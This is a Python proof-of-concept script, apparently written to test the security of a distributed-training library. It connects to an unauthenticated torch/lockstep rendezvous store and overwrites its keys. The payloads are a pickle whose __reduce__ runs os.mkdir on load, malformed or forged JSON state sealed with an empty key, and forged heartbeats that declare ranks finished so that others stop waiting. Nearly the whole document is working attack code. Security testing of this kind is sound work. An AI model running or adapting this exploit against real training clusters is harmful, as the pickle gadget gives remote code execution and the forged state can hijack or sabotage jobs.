"""Attack by a stranger on the network: `python store_intruder.py HOST PORT HOW MARKER` writes to the store it finds
there, under every existing key and those that torch and lockstep read. Prints the number of keys.

HOW: `pickle` (it would create the folder MARKER), `malformed` (half of a JSON text), `forged` (well-formed); the last
two with a seal that anybody can make; `beats` (heartbeats of the ranks with that seal, over theirs for a while).
"""

import json
import os
import pickle
import sys
import time
from datetime import UTC, datetime, timedelta
from typing import Any

from lockstep.distributed import network, rendezvous

ME = ["10.77.0.99", 1, 0]
SOON = (datetime.now(UTC) + timedelta(hours=1)).isoformat()
STATE: dict[str, Any] = {
    "round": 0,
    "complete": True,
    "deadline": None,
    "closed": False,
    "participants": [[*ME, 0]],
    "wait_list": [],
    "redundancy_list": [],
    "last_heartbeats": [[*ME, SOON]],
}


class Code:
    """A pickle that creates a folder when it is loaded."""

    def __init__(self, marker: str) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[Any, ...]:
        return os.mkdir, (self.marker,)


def values(how: str, marker: str, key: str) -> bytes:
    """Values to write under a key."""
    if how == "pickle":
        return pickle.dumps(Code(marker))
    first, _, rest = key.partition("/")
    room = first.removeprefix("lockstep-state-").removeprefix("lockstep-")
    room = f"{room}/state" if first.startswith("lockstep-state-") else room
    text = json.dumps(STATE) if rest == "state" else '["stranger", {}]'
    text = text[: len(text) // 2] if how == "malformed" else text
    return network.seal("", f"{room}/{key.rpartition('/')[2]}", text.encode())


def beat(how: str, marker: str, rank: str) -> bytes:
    """Forge the heartbeat of a rank that has finished, so that the others do not wait for it."""
    return pickle.dumps(Code(marker)) if how == "pickle" else network.seal("", f"watch/{rank}", b'{"over": true}')


def over(store: Any, beats: list[str], how: str, marker: str) -> bool:
    """Overwrite the ranks' heartbeats for a minute, or until the job and its store have ended. Returns whether that was
    so early that the job may not have read any."""
    for rounds in range(600):  # the ranks write theirs every second
        try:
            for key in beats:
                store.set(key, beat(how, marker, key.rpartition("/")[2]))
        except RuntimeError as caught:
            print(f"after {rounds} rounds: {str(caught)[:200]}", file=sys.stderr)
            return rounds < 30
        time.sleep(0.1)
    return False


def main(host: str, port: str, how: str, marker: str) -> None:
    store: Any = rendezvous.connect_store(host, int(port), 10, 10)
    if beats := [key for key in store.list_keys() if "lockstep-watch/" in key]:
        print(len(beats), *beats)
        for _ in range(5):
            if not over(store, beats, how, marker):
                break
            try:
                store = rendezvous.connect_store(host, int(port), 2, 10)
            except (network.NetworkError, RuntimeError):  # it has ended
                break
        return
    found = [key for key in store.list_keys() if not key.startswith(("lockstep-job", "init/"))]
    name = next((store.get(key)[-32:].decode() for key in found if key.startswith("lockstep-name-")), "none")
    own = [f"torch.rendezvous.{name}", f"torch.rendezvous.{name}.0/torchelastic/role_info/0", "c10d/state"]
    ours = [key for key in found if "state" in key or "facts" in key]
    keys = [*own, *ours, *([f"lockstep-state-{name}/state"] if name != "none" else [])]
    for key in keys:
        store.set(key, values(how, marker, key))
    print(len(keys), *keys)


if __name__ == "__main__":
    main(*sys.argv[1:])
